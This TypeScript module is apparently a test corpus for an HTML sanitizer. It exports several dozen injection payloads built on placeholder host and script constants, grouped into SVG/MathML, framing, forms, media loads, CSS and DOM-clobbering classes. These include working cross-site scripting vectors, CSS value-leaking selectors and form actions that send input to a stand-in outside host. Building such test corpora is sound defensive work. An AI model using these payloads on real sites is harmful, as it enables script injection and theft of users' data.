/**
 * Attacks by elements that load, frame, restyle, redirect, ask for input, or stand in another language of markup.
 *
 * Pure. Invariant: what an element would load comes from ELSEWHERE, so that a request betrays it.
 */
import { ELSEWHERE, RUN, type AttackClass } from './attack.ts'

const AT = `https://${ELSEWHERE}/a`

const drawings = [
  `<svg onload=${RUN}></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//${ELSEWHERE}/a.js></script></svg>`,
  `<svg><script xlink:href=data:text/javascript,${RUN} /></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>a</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN} /><text y=20>a</text></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s /></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><foreignobject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></svg>`,
  `<svg><image href=${AT} /></svg>`,
  `<svg><use href="${AT}#a" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'/>#a" /></svg>`,
  `<svg><feImage href=${AT} /></svg>`,
  `<svg><style>@import '${AT}'</style></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg><![CDATA[<img src=x onerror=${RUN}>]]></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">a</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">a</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mi xlink:href="data:text/html,<script>${RUN}</script>">a</mi></math>`,
]

const pages = [
  `<iframe src=${AT}></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script>parent.${RUN}&lt;/script>"></iframe>`,
  `<iframe src=x><img src=x onerror=${RUN}></iframe>`,
  `<frameset onload=${RUN}><frame src=${AT}></frameset>`,
  `<object data=${AT}></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object type=text/html data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src=${AT}>`,
  `<embed src="javascript:${RUN}">`,
  `<applet code=a codebase=${AT}></applet>`,
  `<portal src=${AT}></portal>`,
  `<fencedframe src=${AT}></fencedframe>`,
  `<base href=${AT}/><a href="/b">text</a>`,
  `<base target=_blank>`,
  `<meta http-equiv=refresh content="0;url=${AT}">`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<meta http-equiv=set-cookie content="a=b">`,
  `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<meta name=referrer content=unsafe-url>`,
  `<link rel=stylesheet href=${AT}>`,
  `<link rel=preload as=image href=${AT}>`,
  `<link rel=dns-prefetch href=//${ELSEWHERE}>`,
  `<link rel=icon href=${AT}>`,
  `<link rel=manifest href=${AT}>`,
  `<link rel=import href=${AT}>`,
]

const forms = [
  `<form action=${AT}><input name=code><button>Send</button></form>`,
  `<form action="javascript:${RUN}"><button>Send</button></form>`,
  `<form><button formaction="javascript:${RUN}">Send</button></form>`,
  `<form><input type=submit formaction=${AT}></form>`,
  `<form><input type=image src=${AT}></form>`,
  `<button form=vote formaction=${AT}>Send</button>`,
  `<input name=code form=vote value=a>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<textarea form=vote name=choices>a</textarea>`,
  `<select form=vote><option>a</select>`,
  `<label for=token>Your code</label>`,
  `<button popovertarget=main commandfor=main command=show-modal>a</button>`,
]

const loads = [
  `<img src=${AT}>`,
  `![text](${AT})`,
  `![text](//${ELSEWHERE}/a)`,
  `![text][a]\n\n[a]: ${AT}`,
  `[![text](${AT})](https://example.org)`,
  `<img srcset="${AT} 1x, ${AT}2 2x">`,
  `<img src=/favicon.svg lowsrc=${AT} dynsrc=${AT}>`,
  `<picture><source srcset=${AT}><img></picture>`,
  `<video src=${AT} autoplay></video>`,
  `<video poster=${AT}></video>`,
  `<audio src=${AT} autoplay></audio>`,
  `<video><track default src=${AT}></video>`,
  `<table background=${AT}><tr><td>a</table>`,
  `<table><tr><td align="right" onclick=${RUN}>a</table>`,
  `<table><tr><th data-align='right" onclick="${RUN}'>a</table>`,
  `<table><tr><td background=${AT}>a</table>`,
  `<body background=${AT}>`,
  `<bgsound src=${AT}>`,
  `<input type=image src=${AT}>`,
  `<html manifest=${AT}>`,
  `<link rel=prefetch href=${AT}>`,
]

const styles = [
  `<style>body{background:url(${AT})}</style>`,
  `<style>@import url(${AT});</style>`,
  `<style>@import '${AT}';</style>`,
  `<style>@font-face{font-family:a;src:url(${AT})}body{font-family:a}</style>`,
  `<style>input[value^=a]{background:url(${AT})}</style>`,
  `<style><!--</style><img src=x onerror=${RUN}>-->`,
  `<p style="background:url(${AT})">a</p>`,
  `<p style="background:u\\72l(${AT})">a</p>`,
  `<p style="list-style:url(${AT})">a</p>`,
  `<li style="list-style-image:url(${AT})">a</li>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<p style="behavior:url(${AT})">a</p>`,
  `<p style="-moz-binding:url(${AT})">a</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">Your vote is counted.</p>`,
  `<td style="background-image:image-set(url(${AT}) 1x)">a</td>`,
  `<p class="error-summary site-header">a</p>`,
  `<strong style=content:url(${AT})>a</strong>`,
]

/** Names that would hide those of the page's own scripts, and hooks that our scripts and functions look for. */
const names = [
  '<a id=token href="https://example.org">a</a>',
  '<p id=main>a</p>',
  '<a name=location href="https://example.org">a</a>',
  '<form name=document><input name=cookie></form>',
  '<img name=getElementById>',
  '<a id=a></a><a id=a name=b href="https://example.org">a</a>',
  '<p data-fill=receipt data-if=sent data-errors>a</p>',
  '<li data-proposal=a data-choice=b>a</li>',
  '<p is=vote-form slot=a>a</p>',
  '<vote-form>a</vote-form>',
  '<p itemscope itemid="https://example.org">a</p>',
  '<p hidden inert accesskey=a>a</p>',
  '<p role=alert aria-live=assertive>a</p>',
  '<p lang=xx dir=rtl>a</p>',
  '<output id=result>a</output>',
]

export const ELEMENTS: readonly AttackClass[] = [
  { name: 'a drawing or a formula', texts: drawings },
  { name: 'a page in the page, or a word to the whole page', texts: pages },
  { name: 'a form or a part of one', texts: forms },
  { name: 'a picture, sound or film', texts: loads },
  { name: 'a style', texts: styles },
  { name: 'a name or a hook of the page', texts: names },
]
